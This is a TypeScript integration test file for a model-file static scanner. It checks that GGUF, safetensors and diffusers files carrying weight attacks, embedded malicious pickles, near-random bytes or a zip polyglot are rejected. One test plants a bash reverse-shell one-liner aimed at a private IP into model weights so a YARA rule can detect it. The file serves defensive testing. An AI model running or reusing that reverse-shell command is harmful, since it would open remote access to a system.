import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  DEFAULT_STATIC_SCAN_THRESHOLDS,
  staticScan,
  type StaticScanThresholds,
} from '../src/scan/index.js';
import {
  PICKLES,
  safetensorsZipPolyglot,
  seededBytes,
  writeDiffusersDir,
} from '@secai/formats/testing';
import { GGUF_WEIGHT_ATTACKS, buildTinyLlamaGguf } from '@secai/formats/testing';
import { fixtureFiles, saneSafetensors } from './weightFixtures.js';

// The static scan stage's logic end to end, in this process but with the real `yara` binary as a
// child process for every scan, so this is an int test. The sub-scans alone (weight reports,
// blocks, pickles, thresholds) are tested in process in staticScan.unit.spec.ts.

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'secai-static-int-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const T = (): StaticScanThresholds => ({ ...DEFAULT_STATIC_SCAN_THRESHOLDS });

const { put, tiny } = fixtureFiles(() => dir);

/** A tiny GGUF with `payload` written into token_embd's data at byte `at`. */
async function ggufWith(name: string, payload: Uint8Array, at = 1000): Promise<string> {
  const g = buildTinyLlamaGguf({ seed: 3 });
  const embd = g.tensors[0];
  if (embd === undefined) throw new Error('no tensors');
  Buffer.from(payload).copy(g.buffer, g.dataOffset + embd.offset + at);
  return put(name, g.buffer);
}

/** Rules that never match: isolates the other sub-scans from YARA. */
async function quietRules(): Promise<string> {
  return put('quiet.yar', new TextEncoder().encode('rule never_matches { condition: false }\n'));
}

const QUANT_TYPES = ['q8_0', 'q4_0', 'q4_k', 'q6_k'] as const;

describe('the static scan of tiny models', () => {
  for (const weightType of ['f32', 'f16', ...QUANT_TYPES] as const) {
    it(`a clean ${weightType} model passes`, async () => {
      const { path, report } = await tiny(`clean-${weightType}.gguf`, { weightType });
      const v = await staticScan({ path, kind: 'file' }, T());
      expect(v).toMatchObject({
        passed: true,
        reasonCode: 'static_scan_ok',
        facts: {
          format: 'gguf',
          yara_matches: 0,
          pickle_verdict: 'none',
          guard_verdict: 'PASS',
          guard_score: 0,
          findings: 0,
          weights_checked: report.tensors.length,
        },
      });
    });
  }

  for (const weightType of QUANT_TYPES) {
    for (const attack of GGUF_WEIGHT_ATTACKS) {
      it(`fails ${attack} in ${weightType} on the attacked tensor`, async () => {
        const { path } = await tiny(`${attack}-${weightType}.gguf`, {
          weightType,
          weightAttack: attack,
        });
        const v = await staticScan({ path, kind: 'file' }, T());
        expect(v.passed).toBe(false);
        expect(['weight_anomaly', 'guard_fail']).toContain(v.reasonCode);
        expect(v.facts.guard_verdict).toBe('FAIL');
        expect(String(v.facts.top_finding)).toMatch(/^blk\.0\.attn_q\.weight:/);
      });
    }
  }

  it('passes sane safetensors weights and fails a NaN among them', async () => {
    const p = await put('sane.safetensors', saneSafetensors());
    const v = await staticScan({ path: p, kind: 'file' }, T());
    expect(v).toMatchObject({ passed: true, facts: { format: 'safetensors', weights_checked: 3 } });
    const nan = await put(
      'nan.safetensors',
      saneSafetensors((data, at) =>
        data.writeFloatLE(Number.NaN, (at.get('model.layers.0.w') ?? 0) + 8),
      ),
    );
    const bad = await staticScan({ path: nan, kind: 'file' }, T());
    expect(bad).toMatchObject({
      passed: false,
      reasonCode: 'guard_fail',
      facts: { top_finding: 'model.layers.0.w:nan_values' },
    });
  });
});

describe('staticScan', () => {
  it('fails closed without yara', async () => {
    const { path } = await tiny('noyara.gguf');
    const v = await staticScan({ path, kind: 'file' }, T(), {
      yaraBinary: join(dir, 'no-such-yara'),
    });
    expect(v).toMatchObject({ passed: false, reasonCode: 'yara_missing' });
  });

  it('fails on a yara match first (reverse shell text in the weights)', async () => {
    const p = await ggufWith('shell.gguf', Buffer.from('bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'));
    const v = await staticScan({ path: p, kind: 'file' }, T());
    expect(v).toMatchObject({
      passed: false,
      reasonCode: 'yara_match',
      facts: { yara_rules: 'SecAI_Reverse_Shell', yara_matches: 1 },
    });
  });

  it('finds pickle streams in the weights with its own scanner (yara silenced)', async () => {
    const rulesPath = await quietRules();
    const mal = await ggufWith('pickle-mal.gguf', PICKLES.osSystemStackGlobal);
    expect(await staticScan({ path: mal, kind: 'file' }, T(), { rulesPath })).toMatchObject({
      passed: false,
      reasonCode: 'pickle_malicious',
      facts: { pickle_verdict: 'malicious', pickle_streams: 1, top_finding: 'pickle:malicious' },
    });
    const torch = await ggufWith('pickle-torch.gguf', PICKLES.torchRebuildTensor);
    expect(await staticScan({ path: torch, kind: 'file' }, T(), { rulesPath })).toMatchObject({
      passed: false,
      reasonCode: 'pickle_embedded',
    });
  });

  it('fails on near-random bytes inside the weights', async () => {
    const g = buildTinyLlamaGguf({ seed: 3, nEmbd: 128 });
    const embd = g.tensors[0];
    if (embd === undefined) throw new Error('no tensors');
    Buffer.from(seededBytes(embd.sizeBytes, 4)).copy(g.buffer, g.dataOffset + embd.offset);
    const p = await put('random.gguf', g.buffer);
    const v = await staticScan(
      { path: p, kind: 'file' },
      {
        ...T(),
        entropySampleBytes: 65_536,
      },
    );
    expect(v).toMatchObject({ passed: false, reasonCode: 'entropy_near_random' });
    expect(v.facts.entropy_max).toBeGreaterThan(7.99);
  });

  it('fails a file that is no model format', async () => {
    const p = await put('notes.txt', new TextEncoder().encode('just some text\n'));
    expect(await staticScan({ path: p, kind: 'file' }, T())).toMatchObject({
      passed: false,
      reasonCode: 'unsupported_format',
    });
  });

  it('takes every threshold from params: weightAnomalyFails 0 leaves a lone warning to gguf-guard', async () => {
    const g = buildTinyLlamaGguf({ seed: 3 });
    const t = g.tensors.find((x) => x.name === 'blk.1.ffn_up.weight');
    if (t === undefined) throw new Error('missing');
    for (let i = 0; i < t.sizeBytes; i += 4)
      g.buffer.writeFloatLE(0.5, g.dataOffset + t.offset + i);
    const p = await put('constant.gguf', g.buffer);
    const strict = await staticScan({ path: p, kind: 'file' }, T());
    expect(strict).toMatchObject({
      passed: false,
      reasonCode: 'weight_anomaly',
      facts: { top_finding: 'blk.1.ffn_up.weight:constant_tensor', guard_verdict: 'PASS' },
    });
    const lenient = await staticScan({ path: p, kind: 'file' }, { ...T(), weightAnomalyFails: 0 });
    expect(lenient).toMatchObject({ passed: true, facts: { guard_score: 0.1, findings: 1 } });
    const stricter = await staticScan(
      { path: p, kind: 'file' },
      { ...T(), weightAnomalyFails: 0, guardWarningWeight: 0.6 },
    );
    expect(stricter).toMatchObject({ passed: false, reasonCode: 'guard_fail' });
  });

  it('scans a diffusers directory: every file for pickles, safetensors for entropy and weights', async () => {
    const root = join(dir, 'diffusers-sane');
    await writeDiffusersDir(root);
    // The fixture's tensors hold random bytes (NaN/Inf as floats): give them sane weights.
    const sane = saneSafetensors();
    for (const f of [
      'unet/diffusion_pytorch_model.safetensors',
      'vae/diffusion_pytorch_model.safetensors',
      'text_encoder/model.safetensors',
    ])
      await writeFile(join(root, f), sane);
    const v = await staticScan({ path: root, kind: 'directory' }, T());
    expect(v).toMatchObject({
      passed: true,
      reasonCode: 'static_scan_ok',
      facts: { format: 'directory', files_scanned: 11, weights_checked: 9 },
    });
    await writeFile(
      join(root, 'vae/diffusion_pytorch_model.safetensors'),
      safetensorsZipPolyglot(),
    );
    const bad = await staticScan({ path: root, kind: 'directory' }, T());
    expect(bad.passed).toBe(false);
    expect(bad.reasonCode).toBe('yara_match');
    const refused = join(dir, 'diffusers-bin');
    await writeDiffusersDir(refused, 'pickleBin');
    expect(await staticScan({ path: refused, kind: 'directory' }, T())).toMatchObject({
      passed: false,
      reasonCode: 'directory_invalid',
    });
  });
});
